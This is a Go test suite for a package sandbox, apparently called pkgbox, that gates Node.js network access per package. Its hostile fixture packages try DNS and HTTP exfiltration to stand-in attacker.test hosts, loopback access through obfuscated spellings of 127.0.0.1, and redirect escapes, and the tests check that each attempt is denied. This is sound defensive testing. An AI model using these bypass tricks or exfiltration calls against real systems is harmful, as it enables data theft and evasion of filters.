package net_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/pkgbox/pkgbox/manifests"
	"github.com/pkgbox/pkgbox/policy"
)

// runAppWithManifest is runApp under the grants of files["pkgbox.json"], read and turned into a
// policy engine the way `pkgbox run` does (cmd/pkgbox/runconfig.go).
func runAppWithManifest(t *testing.T, files map[string]string, entry string) (string, string, int) {
	t.Helper()
	dir := writeApp(t, files)
	m, err := manifests.Read(filepath.Join(dir, "pkgbox.json"))
	if err != nil {
		t.Fatal(err)
	}
	cfg := policy.Config{AppRoot: dir, Packages: map[string]map[string]policy.Grant{}}
	for name, grants := range m.Packages {
		cfg.Packages[name] = grants.Policy()
	}
	e, err := policy.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return runIn(t, dir, entry, e)
}

// tcpSink listens on 127.0.0.1 and accepts (and closes) connections, counting them, so that a
// connect the gate wrongly let through is seen as "CONNECTED" rather than as a refusal.
func tcpSink(t *testing.T) (port int, accepted func() int) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var mu sync.Mutex
	n := 0
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			n++
			mu.Unlock()
			c.Close()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port, func() int { mu.Lock(); defer mu.Unlock(); return n }
}

func unixSink(t *testing.T, path string) {
	t.Helper()
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
}

// probeJS is the index.js of a package that tries connections and reports, for each, whether it
// connected, was denied (with the denial's first part) or failed otherwise.
const probeJS = `
const net = require('net');
const describe = (e) => e.code === 'ERR_PKGBOX_DENIED' ? 'denied ' + e.message.split(' — ')[0]
  : e.syscall === 'getaddrinfo' ? 'allowed (look-up failed)' : 'error ' + e.code;
module.exports = async (targets) => {
  const out = [];
  for (const [host, port] of targets) {
    out.push(host + ':' + port + ' ' + await new Promise((resolve) => {
      const s = net.connect(port, host, () => { s.destroy(); resolve('CONNECTED'); });
      s.on('error', (e) => resolve(describe(e)));
    }));
  }
  return out;
};`

// A net.connect grant is matched with SPEC's host:port patterns: a wildcard port, a wildcard
// host and a "*.suffix" host each let through what they match and nothing else. Names are
// matched as names (localhost is not 127.0.0.1), addresses after normalisation.
func TestHostPatternGrants(t *testing.T) {
	p1, _ := tcpSink(t)
	p2, _ := tcpSink(t)
	manifest := fmt.Sprintf(`{"packages": {
  "anyport": {"net.connect": ["127.0.0.1:*"]},
  "anyhost": {"net.connect": ["*:%d"]},
  "suffix":  {"net.connect": ["*.pkgbox.onion:*"]}
}}`, p1)
	files := map[string]string{
		"pkgbox.json":  manifest,
		"package.json": `{"name":"app","dependencies":{"anyport":"1.0.0","anyhost":"1.0.0","suffix":"1.0.0"}}`,
		"app.js": fmt.Sprintf(`
const [p1, p2] = [%d, %d];
(async () => {
  const runs = [
    ['anyport', [['127.0.0.1', p1], ['127.0.0.1', p2], ['2130706433', p2], ['localhost', p1]]],
    ['anyhost', [['127.0.0.1', p1], ['localhost', p1], ['127.0.0.1', p2]]],
    // .onion names are never sent to DNS (RFC 7686), so an allowed one fails its look-up at once.
    ['suffix', [['api.pkgbox.onion', p1], ['a.b.pkgbox.onion', p2], ['pkgbox.onion', p1],
      ['evilpkgbox.onion', p1], ['api.pkgbox.onion.evil.onion', p1], ['127.0.0.1', p1]]],
  ];
  for (const [pkg, targets] of runs) {
    for (const line of await require(pkg)(targets)) {
      console.log(pkg, line.split(':' + p1).join(':P1').split(':' + p2).join(':P2'));
    }
  }
})();`, p1, p2),
	}
	for _, name := range []string{"anyport", "anyhost", "suffix"} {
		files["node_modules/"+name+"/package.json"] = `{"name":"` + name + `","version":"1.0.0"}`
		files["node_modules/"+name+"/index.js"] = probeJS
	}
	out, errs, code := runAppWithManifest(t, files, "app.js")
	d := func(pkg, res string) string {
		return `denied pkgbox: denied: package "` + pkg + `@1.0.0" net.connect "` + res + `" (net.connect)`
	}
	wantLines(t, out, errs, code,
		`anyport 127.0.0.1:P1 CONNECTED`,
		`anyport 127.0.0.1:P2 CONNECTED`,
		`anyport 2130706433:P2 CONNECTED`,
		`anyport localhost:P1 `+d("anyport", "localhost:P1"),
		`anyhost 127.0.0.1:P1 CONNECTED`,
		`anyhost localhost:P1 CONNECTED`,
		`anyhost 127.0.0.1:P2 `+d("anyhost", "127.0.0.1:P2"),
		`suffix api.pkgbox.onion:P1 allowed (look-up failed)`,
		`suffix a.b.pkgbox.onion:P2 allowed (look-up failed)`,
		`suffix pkgbox.onion:P1 `+d("suffix", "pkgbox.onion:P1"),
		`suffix evilpkgbox.onion:P1 `+d("suffix", "evilpkgbox.onion:P1"),
		`suffix api.pkgbox.onion.evil.onion:P1 `+d("suffix", "api.pkgbox.onion.evil.onion:P1"),
		`suffix 127.0.0.1:P1 `+d("suffix", "127.0.0.1:P1"),
	)
}

// A package granted one other host (and one unix socket) cannot reach loopback through any
// spelling of 127.0.0.1 or 0.0.0.0, cannot use another unix socket, cannot send data out through
// DNS look-ups of names it chooses, and cannot listen: each attempt targets something that
// exists and would succeed without the gate.
func TestOnlyAnotherHostGrantedDeniesEverythingElse(t *testing.T) {
	port, accepted := tcpSink(t)
	sockDir, err := os.MkdirTemp("", "pkgbox-net")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(sockDir) })
	granted, other := filepath.Join(sockDir, "granted.sock"), filepath.Join(sockDir, "other.sock")
	unixSink(t, granted)
	unixSink(t, other)
	files := map[string]string{
		"pkgbox.json": fmt.Sprintf(`{"packages": {"evil": {
  "net.connect": ["10.11.12.13:*", "unix:%s"],
  "net.resolve": ["api.example.com"]
}}}`, granted),
		"package.json":                   `{"name":"app","dependencies":{"evil":"1.0.0"}}`,
		"node_modules/evil/package.json": `{"name":"evil","version":"1.0.0"}`,
		"node_modules/evil/index.js": `
const net = require('net'), http = require('http'), dns = require('dns');
const report = (e) => e ? (e.code === 'ERR_PKGBOX_DENIED' ? e.message.split(' — ')[0] : 'error ' + e.code) : 'ALLOWED';
const attempt = (label, fn) => new Promise((resolve) => {
  try { fn((err) => resolve(label + ': ' + report(err))); } catch (e) { resolve(label + ': threw ' + report(e)); }
});
const viaNet = (host, port) => (done) => {
  const s = net.connect(port, host, () => { s.destroy(); done(null); });
  s.on('error', done);
};
module.exports = async (port, granted, other) => {
  const out = [];
  for (const host of ['2130706433', '0x7f000001', '0x7f.1', '0177.0.0.1', '127.1', '[::ffff:127.0.0.1]',
    '::ffff:7f00:1', '0.0.0.0', '0', '0x0', 'localhost', '10.11.12.14']) {
    out.push(await attempt('connect ' + host, viaNet(host, port)));
  }
  out.push(await attempt('http.get decimal', (done) => http.get('http://2130706433:' + port + '/', () => done(null)).on('error', done)));
  out.push(await attempt('unix granted', (done) => { const s = net.connect(granted, () => { s.destroy(); done(null); }); s.on('error', done); }));
  out.push(await attempt('unix other', (done) => { const s = net.connect({ path: other }, () => { s.destroy(); done(null); }); s.on('error', done); }));
  out.push(await attempt('http socketPath', (done) => http.get({ socketPath: other, path: '/' }, () => done(null)).on('error', done)));
  out.push(await attempt('dns.lookup', (done) => dns.lookup('c2VjcmV0.attacker.test', done)));
  out.push(await attempt('dns.resolve TXT', (done) => dns.resolve('token-1234.attacker.test', 'TXT', done)));
  out.push(await attempt('dns.resolve4', (done) => dns.resolve4('a.attacker.test', done)));
  out.push(await attempt('dns.promises.lookup', (done) => dns.promises.lookup('b.attacker.test').then(() => done(null), done)));
  out.push(await attempt('Resolver.resolveTxt', (done) => new dns.Resolver().resolveTxt('c.attacker.test', done)));
  out.push(await attempt('http.get by name', (done) => http.get('http://exfil-data.attacker.test/', () => done(null)).on('error', done)));
  out.push(await attempt('net listen', (done) => { const s = net.createServer(); s.on('error', done); s.listen(0, '127.0.0.1', () => { s.close(); done(null); }); }));
  out.push(await attempt('http listen', (done) => { const s = http.createServer(); s.on('error', done); s.listen(0, () => { s.close(); done(null); }); }));
  return out;
};`,
		"app.js": fmt.Sprintf(`
require('evil')(%d, %q, %q).then((lines) => {
  for (const l of lines) console.log(l.split(':%d').join(':PORT').split(%q).join('SOCKDIR'));
});`, port, granted, other, port, sockDir),
	}
	out, errs, code := runAppWithManifest(t, files, "app.js")
	p := `pkgbox: denied: package "evil@1.0.0" `
	conn := func(res, api string) string { return p + `net.connect "` + res + `" (` + api + `)` }
	dnsDenied := func(host, api string) string { return p + `net.resolve "` + host + `" (` + api + `)` }
	loop := conn("127.0.0.1:PORT", "net.connect")
	wantLines(t, out, errs, code,
		`connect 2130706433: `+loop,
		`connect 0x7f000001: `+loop,
		`connect 0x7f.1: `+loop,
		`connect 0177.0.0.1: `+loop,
		`connect 127.1: `+loop,
		`connect [::ffff:127.0.0.1]: `+loop,
		`connect ::ffff:7f00:1: `+loop,
		`connect 0.0.0.0: `+loop,
		`connect 0: `+loop,
		`connect 0x0: `+loop,
		`connect localhost: `+conn("localhost:PORT", "net.connect"),
		`connect 10.11.12.14: `+conn("10.11.12.14:PORT", "net.connect"),
		`http.get decimal: `+conn("127.0.0.1:PORT", "http.get"),
		`unix granted: ALLOWED`,
		`unix other: `+conn("unix:SOCKDIR/other.sock", "net.connect"),
		`http socketPath: `+conn("unix:SOCKDIR/other.sock", "http.get"),
		`dns.lookup: `+dnsDenied("c2vjcmv0.attacker.test", "dns.lookup"),
		`dns.resolve TXT: `+dnsDenied("token-1234.attacker.test", "dns.resolve"),
		`dns.resolve4: `+dnsDenied("a.attacker.test", "dns.resolve4"),
		`dns.promises.lookup: `+dnsDenied("b.attacker.test", "dns.promises.lookup"),
		`Resolver.resolveTxt: `+dnsDenied("c.attacker.test", "dns.resolveTxt"),
		`http.get by name: `+conn("exfil-data.attacker.test:80", "http.get"),
		`net listen: `+p+`net.listen "127.0.0.1" (net.Server.listen)`,
		`http listen: `+p+`net.listen "[::]" (net.Server.listen)`,
	)
	if n := accepted(); n != 0 {
		t.Fatalf("the loopback server accepted %d connections from a package granted only another host", n)
	}
}

// fetch follows redirects one gated request at a time: a hop within the grant is followed, and a
// redirect from the granted server to another port or another host is denied at that hop, after
// the first request went through, and the other server sees nothing.
func TestFetchRedirectLeavingTheGrantIsDenied(t *testing.T) {
	var mu sync.Mutex
	var seenA []string
	hitsB := 0
	b := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hitsB++
		mu.Unlock()
		fmt.Fprint(w, "leaked")
	}))
	defer b.Close()
	var a *httptest.Server
	a = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seenA = append(seenA, r.URL.Path)
		mu.Unlock()
		switch r.URL.Path {
		case "/hop":
			http.Redirect(w, r, "/final", http.StatusFound)
		case "/to-port":
			http.Redirect(w, r, b.URL+"/stolen", http.StatusFound)
		case "/to-host":
			http.Redirect(w, r, strings.Replace(a.URL, "127.0.0.1", "localhost", 1)+"/final", http.StatusTemporaryRedirect)
		default:
			fmt.Fprint(w, "final")
		}
	}))
	defer a.Close()
	files := map[string]string{
		"pkgbox.json":                    `{"packages": {"evil": {"net.connect": ["` + strings.TrimPrefix(a.URL, "http://") + `"]}}}`,
		"package.json":                   `{"name":"app","dependencies":{"evil":"1.0.0"}}`,
		"node_modules/evil/package.json": `{"name":"evil","version":"1.0.0"}`,
		"node_modules/evil/index.js": `
module.exports = async (base) => {
  const out = [];
  for (const path of ['/hop', '/to-port', '/to-host']) {
    try {
      const r = await fetch(base + path);
      out.push(path + ': ' + r.status + ' ' + (await r.text()) + ' redirected=' + r.redirected);
    } catch (e) {
      const c = e.cause || {};
      out.push(path + ': ' + e.message + ': ' + c.code + ' ' + String(c.message).split(' — ')[0]);
    }
  }
  return out;
};`,
		"app.js": `require('evil')(process.argv[2] || ` + fmt.Sprintf("%q", a.URL) + `).then((lines) => lines.forEach((l) => console.log(l)));`,
	}
	out, errs, code := runAppWithManifest(t, files, "app.js")
	portA, portB := strings.TrimPrefix(a.URL, "http://127.0.0.1"), strings.TrimPrefix(b.URL, "http://127.0.0.1")
	p := `pkgbox: denied: package "evil@1.0.0" net.connect `
	wantLines(t, out, errs, code,
		`/hop: 200 final redirected=true`,
		`/to-port: fetch failed: ERR_PKGBOX_DENIED `+p+`"127.0.0.1`+portB+`" (fetch)`,
		`/to-host: fetch failed: ERR_PKGBOX_DENIED `+p+`"localhost`+portA+`" (fetch)`,
	)
	mu.Lock()
	defer mu.Unlock()
	if got := strings.Join(seenA, " "); got != "/hop /final /to-port /to-host" {
		t.Fatalf("the granted server saw %q, want every first hop and the allowed redirect", got)
	}
	if hitsB != 0 {
		t.Fatalf("the server behind the denied redirect got %d requests", hitsB)
	}
}
